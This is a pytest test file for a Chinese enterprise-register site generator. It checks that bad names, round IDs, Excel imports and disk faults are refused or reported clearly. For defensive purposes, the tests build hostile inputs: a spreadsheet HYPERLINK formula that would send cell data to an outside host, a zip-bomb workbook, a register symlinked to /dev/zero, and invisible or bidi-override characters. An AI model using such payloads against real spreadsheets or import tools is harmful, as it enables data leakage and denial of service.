"""Input that used to pass `check` and break later, and faults of the machine: each is refused up
front with a located message, or reported as what it is, never as a bug (exit 3)."""

from __future__ import annotations

import errno
import os
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest
from click.testing import CliRunner
from openpyxl import Workbook, load_workbook

from generator.build import BuildConfig, build
from generator.cli import cli
from generator.errors import InputError, Problem
from generator.inputs import load_inputs
from generator.publish import write
from generator.publish.cache import Manifest
from tests.conftest import ROOT, TODAY, small_project, snapshot


def run(*args: str) -> tuple[int, str, str]:
    result = CliRunner().invoke(cli, list(args))
    return result.exit_code, result.stdout, result.stderr


def codes(data_dir: Path) -> list[tuple[str, str]]:
    with pytest.raises(InputError) as raised:
        load_inputs(data_dir)
    return [(p.code, p.field) for p in raised.value.problems]


def replace_in(path: Path, old: str, new: str) -> None:
    text = path.read_text(encoding="utf-8")
    assert old in text, old
    path.write_text(text.replace(old, new, 1), encoding="utf-8")


FIRST_NAME = "name: 新县青檀示例纺织有限公司"


# --- text a font cannot draw, or nobody can see ----------------------------------------------------


def only_problem_with_first_name(data_dir: Path, name: str) -> Problem:
    """The one problem `check` finds once the first enterprise's name line reads `name`."""
    replace_in(data_dir / "register.yaml", FIRST_NAME, name)
    with pytest.raises(InputError) as raised:
        load_inputs(data_dir)
    [problem] = raised.value.problems
    return problem


@pytest.mark.parametrize("character", ["✅", "📞", "🏭"])
def test_characters_the_pdf_fonts_lack_are_refused_in_check(data_dir: Path, character: str) -> None:
    problem = only_problem_with_first_name(data_dir, f"name: 新县青檀{character}示例纺织有限公司")
    assert (problem.code, problem.field) == ("text.glyph", "enterprises[0].name")
    assert f"“{character}”（U+{ord(character):04X}）" in problem.message


@pytest.mark.parametrize("code_point", [0x2060, 0xFEFF, 0x061C, 0x00AD, 0xE0041, 0x3164, 0x202E, 0x200B])
def test_invisible_and_blank_characters_are_refused_naming_the_code_point(data_dir: Path, code_point: int) -> None:
    escaped = f"\\U{code_point:08X}"
    problem = only_problem_with_first_name(data_dir, f'name: "新县青檀{escaped}示例纺织有限公司"')
    assert (problem.code, problem.field) == ("text.invisible", "enterprises[0].name")
    assert f"U+{code_point:04X}" in problem.message


def test_a_huge_name_is_refused_by_its_length_before_any_other_check(data_dir: Path) -> None:
    replace_in(data_dir / "register.yaml", FIRST_NAME, "name: " + "<a" * 40_000)
    assert codes(data_dir) == [("text.too_long", "enterprises[0].name")]


def test_a_base_url_with_a_quote_is_refused(data_dir: Path) -> None:
    replace_in(data_dir / "site.yaml", "base_url: https://example.gov.cn/whitelist/", "base_url: 'https://x.cn/a\"b'")
    assert codes(data_dir) == [("url.format", "base_url")]


# --- round ids become file names ----------------------------------------------------------------


@pytest.mark.parametrize(
    ("round_id", "code"),
    [
        ("index", "round.id_reserved"),
        ("removal-2023-03-15", "round.id_reserved"),
        ("CON", "round.id_reserved"),
        ("aux", "round.id_reserved"),
        ("2026-" + "1" * 300, "round.id_length"),
        ("2026/02", "round.id_format"),
    ],
)
def test_round_ids_that_collide_with_pages_or_cannot_be_file_names(data_dir: Path, round_id: str, code: str) -> None:
    replace_in(data_dir / "register.yaml", 'id: "2026-01"', f'id: "{round_id}"')
    assert (code, "rounds[3].id") in codes(data_dir)


def test_round_ids_that_differ_only_in_case_are_one_file_on_windows(data_dir: Path) -> None:
    register = data_dir / "register.yaml"
    replace_in(register, 'id: "2022-02"', 'id: "2022-A"')
    replace_in(register, 'id: "2022-03"', 'id: "2022-a"')
    assert ("round.id_case", "rounds[2].id") in codes(data_dir)


def test_round_new_validates_before_writing(data_dir: Path) -> None:
    register = data_dir / "register.yaml"
    before = register.read_bytes()
    for title in ("<b>x</b>", "第五\x07批", "批" * 600):
        code, _, err = run("round", "new", "--data", str(data_dir), "--today", "2026-11-28", "--title", title)
        assert code == 1 and "未生成任何文件" in err, err
        assert register.read_bytes() == before
    assert not (data_dir / ".history").exists()


# --- files that are not what they claim ------------------------------------------------------------


def test_a_data_file_linked_to_a_device_is_refused_without_reading(data_dir: Path) -> None:
    register = data_dir / "register.yaml"
    register.unlink()
    register.symlink_to("/dev/zero")
    assert codes(data_dir) == [("file.not_regular", "")]


def test_a_fifo_does_not_hang_check(data_dir: Path) -> None:
    register = data_dir / "register.yaml"
    register.unlink()
    os.mkfifo(register)
    result = subprocess.run(
        [sys.executable, "-m", "generator", "check", "--data", str(data_dir)],
        capture_output=True,
        text=True,
        timeout=120,
        cwd=ROOT,
    )
    assert result.returncode == 1 and "不是普通文件" in result.stdout


# --- Excel ------------------------------------------------------------------------------------------


def export(data_dir: Path, tmp_path: Path) -> Path:
    workbook = tmp_path / "登记册.xlsx"
    assert run("export", "--xlsx", str(workbook), "--data", str(data_dir))[0] == 0
    return workbook


def test_text_beginning_with_equals_is_exported_as_text_and_imports_back(data_dir: Path, tmp_path: Path) -> None:
    register = data_dir / "register.yaml"
    replace_in(register, "title: 第三批", "title: =第三批")
    replace_in(register, FIRST_NAME, 'name: \'=HYPERLINK("http://example.com/"&A1,"点此")\'')
    workbook = export(data_dir, tmp_path)
    with zipfile.ZipFile(workbook) as archive:
        sheets = "".join(archive.read(n).decode() for n in archive.namelist() if n.startswith("xl/worksheets/"))
    assert "<f>" not in sheets  # no cell is a formula
    book = load_workbook(workbook)
    assert book["批次"]["B4"].value == "=第三批" and book["批次"]["B4"].data_type == "s"
    code, out, err = run("import", str(workbook), "--data", str(data_dir), "--today", "2026-11-28")
    assert code == 0, err
    assert "未写入" in out


def test_a_credit_code_excel_turned_into_a_number_is_refused_with_the_fix(data_dir: Path, tmp_path: Path) -> None:
    workbook = export(data_dir, tmp_path)
    book = load_workbook(workbook)
    sheet = book["企业"]
    row = sheet.max_row + 1
    sheet.cell(row=row, column=1).value = 914115238046182014  # typed into a General cell: now a float
    sheet.cell(row=row, column=2).value = "新县数字示例有限公司"
    book.save(workbook)
    code, _, err = run("import", str(workbook), "--data", str(data_dir))
    assert code == 1
    line = next(line for line in err.splitlines() if f"企业!A{row}（统一社会信用代码）" in line)
    assert "Excel 当成了数字" in line and "文本" in line


def test_two_columns_with_one_header_are_refused(data_dir: Path, tmp_path: Path) -> None:
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.title = "企业"
    sheet.append(["统一社会信用代码", "企业名称", "企业名称"])
    sheet.append(["91411523MABU85E43Y", "甲", "乙"])
    path = tmp_path / "dup.xlsx"
    book.save(path)
    code, _, err = run("import", str(path), "--data", str(data_dir))
    assert code == 1 and "企业!C1" in err and "出现了两次" in err


def test_a_workbook_that_inflates_beyond_reason_is_refused_before_it_is_opened(data_dir: Path, tmp_path: Path) -> None:
    bomb = tmp_path / "bomb.xlsx"
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/worksheets/sheet1.xml", b"\0" * (60 * 1024 * 1024))
    assert bomb.stat().st_size < 200 * 1024
    code, _, err = run("import", str(bomb), "--data", str(data_dir))
    assert code == 1 and "解压后过大" in err


# --- the register file as staff keep it ------------------------------------------------------------


def test_round_new_writes_through_a_symlinked_register_and_keeps_crlf(data_dir: Path, tmp_path: Path) -> None:
    real = tmp_path / "shared" / "register.yaml"
    real.parent.mkdir()
    real.write_bytes((data_dir / "register.yaml").read_bytes().replace(b"\n", b"\r\n"))
    (data_dir / "register.yaml").unlink()
    (data_dir / "register.yaml").symlink_to(real)
    code, _, err = run("round", "new", "--data", str(data_dir), "--today", "2026-11-28")
    assert code == 0, err
    assert (data_dir / "register.yaml").is_symlink()
    text = real.read_bytes()
    assert b'  - id: "2026-02"\r\n    title: ' in text and b"\n" not in text.replace(b"\r\n", b"")


def test_import_writes_through_a_symlinked_register_and_keeps_crlf(data_dir: Path, tmp_path: Path) -> None:
    workbook = export(data_dir, tmp_path)
    real = tmp_path / "shared" / "register.yaml"
    real.parent.mkdir()
    real.write_bytes((data_dir / "register.yaml").read_bytes().replace(b"\n", b"\r\n"))
    (data_dir / "register.yaml").unlink()
    (data_dir / "register.yaml").symlink_to(real)
    book = load_workbook(workbook)
    sheet = book["企业"]
    employees = next(cell.column for cell in sheet[1] if cell.value == "从业人数")
    sheet.cell(row=2, column=employees).value = 4321
    book.save(workbook)
    code, out, err = run("import", str(workbook), "--data", str(data_dir), "--today", "2026-11-28")
    assert code == 0 and "修改 1 家" in out, err
    assert (data_dir / "register.yaml").is_symlink()
    assert load_inputs(data_dir).register.enterprises[0].employees == 4321
    text = real.read_bytes()
    assert b"4321\r\n" in text and b"\n" not in text.replace(b"\r\n", b"")


# --- dates the outputs cannot carry ------------------------------------------------------------------


def test_a_build_date_the_outputs_cannot_carry_is_a_usage_error() -> None:
    code, _, err = run("build", "--today", "2108-01-01")
    assert code == 2 and "超出可处理的范围" in err


# --- faults of the machine are not bugs ----------------------------------------------------------


def test_a_disk_filling_up_during_the_build_is_said_as_such_with_exit_1(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, pdf_cache: Path
) -> None:
    root, data = small_project(tmp_path, enterprises=2)

    def fails(self: write.Staging) -> None:
        raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC), str(self.out))

    monkeypatch.setattr(write.Staging, "publish", fails)
    monkeypatch.setattr("generator.build.PROJECT_DIR", root)
    code, _, err = run(
        "build", "--data", str(data), "--out", str(tmp_path / "site"), "--staff-out", str(tmp_path / "staff"),
        "--cache", str(pdf_cache), "--today", "2026-11-28", "-q",
    )  # fmt: skip
    assert code == 1 and "磁盘已满" in err and "程序缺陷" not in err
    assert not (tmp_path / "site").exists()


@pytest.mark.parametrize(("number", "said"), [(errno.EACCES, "没有权限"), (errno.EROFS, "磁盘是只读的")])
def test_an_output_folder_that_cannot_be_written_is_said_as_such_and_the_site_kept(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, pdf_cache: Path, number: int, said: str
) -> None:
    """Tests run as root, whom permissions do not stop: the refusal is the one the kernel gives
    when the build makes its staging folder beside the output."""
    root, data = small_project(tmp_path, enterprises=2)
    monkeypatch.setattr("generator.build.PROJECT_DIR", root)
    site = tmp_path / "site"
    command = (
        "build", "--data", str(data), "--out", str(site), "--staff-out", str(tmp_path / "staff"),
        "--cache", str(pdf_cache), "--today", "2026-11-28",
    )  # fmt: skip
    assert run(*command, "-q")[0] == 0
    before = snapshot(site)

    def refused(out: Path, kind: str) -> Path:
        raise OSError(number, os.strerror(number), str(out.parent))

    monkeypatch.setattr(write, "scratch_folder", refused)
    replace_in(data / "register.yaml", FIRST_NAME, "name: 新县青檀示例纺织股份有限公司")
    code, _, err = run(*command, "-q")
    assert code == 1 and said in err and "程序缺陷" not in err, err
    assert snapshot(site) == before


@pytest.mark.parametrize(
    ("number", "said"), [(errno.EACCES, "没有权限"), (errno.EROFS, "磁盘是只读的"), (errno.EDQUOT, "超出磁盘配额")]
)
def test_no_permission_or_a_read_only_disk_is_said_as_such_with_exit_1(
    data_dir: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, number: int, said: str
) -> None:
    def refused(self: Path, data: bytes) -> int:
        raise OSError(number, os.strerror(number), str(self))

    monkeypatch.setattr(Path, "write_bytes", refused)
    code, _, err = run("export", "--xlsx", str(tmp_path / "x.xlsx"), "--data", str(data_dir))
    assert code == 1 and said in err and "x.xlsx" in err and "程序缺陷" not in err


def test_export_into_a_missing_folder_is_said_as_such(data_dir: Path, tmp_path: Path) -> None:
    code, _, err = run("export", "--xlsx", str(tmp_path / "no" / "such" / "x.xlsx"), "--data", str(data_dir))
    assert code == 1 and "不存在" in err and "程序缺陷" not in err


def test_a_cache_manifest_of_the_wrong_shape_is_discarded_and_the_site_rebuilt(tmp_path: Path, pdf_cache: Path) -> None:
    root, data = small_project(tmp_path, enterprises=2)
    config = BuildConfig(data, tmp_path / "site", TODAY, project_dir=root, cache_dir=pdf_cache)
    build(config)
    before = snapshot(config.out_dir)
    manifest = Manifest.location(pdf_cache, config.out_dir.resolve())
    for broken in ('["not", "a", "manifest"]', '{"build_key": 1, "engine_key": [], "engine_files": 3}', "{"):
        manifest.write_text(broken, encoding="utf-8")
        report = build(config)
        assert not report.unchanged and snapshot(config.out_dir) == before


def test_an_unexpected_failure_is_a_bug_with_exit_3(monkeypatch: pytest.MonkeyPatch) -> None:
    def broken(*_: object) -> None:
        raise RuntimeError("boom")

    monkeypatch.setattr("generator.inputs.load_inputs", broken)
    code, _, err = run("check")
    assert code == 3 and "这是程序缺陷，请报告" in err and "RuntimeError: boom" in err and "Traceback" not in err
    result = CliRunner().invoke(cli, ["check", "--debug"])
    assert isinstance(result.exception, RuntimeError)


def test_a_file_that_is_not_a_workbook_is_refused(data_dir: Path, tmp_path: Path) -> None:
    fake = tmp_path / "fake.xlsx"
    fake.write_bytes(b"PK not really a zip")
    code, _, err = run("import", str(fake), "--data", str(data_dir))
    assert code == 1 and "另存为 .xlsx" in err
